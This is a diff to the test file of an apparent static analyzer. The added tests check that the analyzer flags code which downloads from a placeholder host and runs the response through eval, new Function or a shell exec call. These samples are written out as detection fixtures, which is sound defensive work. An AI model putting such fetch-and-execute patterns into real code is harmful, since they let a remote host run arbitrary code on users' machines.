@@ -15,6 +15,26 @@ describe('a request to the daemon of containers', () => {
   });
 });
 
+describe('a client that fails where a host answers with an error', () => {
+  it('tells what was answered', () => {
+    for (const code of [
+      `axios.get('https://load.invalid/a').then(({ data }) => data.ok).catch((problem) => eval(problem.response.data));`,
+      `const ask = async () => (await axios.post('https://load.invalid')).data.id; (async () => { try { await ask(); } catch ({ response }) { new Function(response.data.text)(); } })();`,
+      `async function ask() { try { return await axios('https://load.invalid'); } finally { count(); } } (async () => { try { await ask(); } catch (e) { cp.exec(e.response.data); } })();`,
+    ])
+      assert.match(
+        flowsOf(`const axios = require('axios'); ${code}`).join(),
+        /^downloaded>(?:evaluated|run-as-command)$/,
+      );
+  });
+
+  it('tells nothing of what failed elsewhere', () => {
+    const code = `const axios = require('axios'); (async () => { try { await axios.get('https://load.invalid'); } catch (e) { console.error(e.message); }
+      try { await work(); } catch (e) { eval(e.code); } })();`;
+    assert.deepEqual(flowsOf(code), []);
+  });
+});
+
 describe('a server of sockets', () => {
   const serve = (handle: string): readonly string[] => [
     ...new Set(flowsOf(`require('net').createServer((c) => { ${handle} }).listen(4444);`)),
